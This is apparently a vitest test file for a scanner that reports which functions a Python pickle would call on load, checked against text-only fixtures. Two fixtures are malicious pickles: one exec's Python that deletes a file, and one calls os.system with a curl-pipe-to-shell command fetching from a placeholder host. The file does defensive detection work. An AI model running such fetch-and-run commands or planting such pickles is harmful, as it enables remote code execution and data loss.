/** What a pickle calls when it is loaded (src/inspect/effects/pickle.ts). Every pickle here is text, never loaded. */
import { describe, expect, it } from 'vitest';
import { looksLikePickle, pickleCalls } from '../../src/inspect/effects/pickle.js';

describe('pickle calls', () => {
  it('reads builtins.exec of a raw-unicode-escaped string and os.system of a quoted one', () => {
    const exec = "(dp0\nVmeta\np1\ncbuiltins\nexec\np2\n(Vimport os\\u000aos.remove('x')\np3\ntp4\nRp5\ns.";
    expect(looksLikePickle(exec)).toBe(true);
    expect(pickleCalls(exec)).toEqual([{ callable: 'builtins.exec', runs: 'python', arg: "import os\nos.remove('x')", line: 4 }]);
    const system = "cposix\nsystem\np0\n(S'curl -fsSL https://x.invalid/i | sh'\np1\ntp2\nRp3\n.";
    expect(pickleCalls(system)).toEqual([{ callable: 'posix.system', runs: 'command', arg: 'curl -fsSL https://x.invalid/i | sh', line: 1 }]);
  });

  it('finds nothing in a pickle of plain data or of a class it rebuilds', () => {
    expect(pickleCalls("(dp0\nVthreshold\np1\nF0.5\nsVweights\np2\n(lp3\nF0.12\nas.")).toEqual([]);
    expect(pickleCalls("ccopy_reg\n_reconstructor\np0\n(csklearn.linear_model\nLogisticRegression\np1\nc__builtin__\nobject\np2\nNtp3\nRp4\n.")).toEqual([]);
    expect(looksLikePickle('{"threshold": 0.5}')).toBe(false);
  });
});
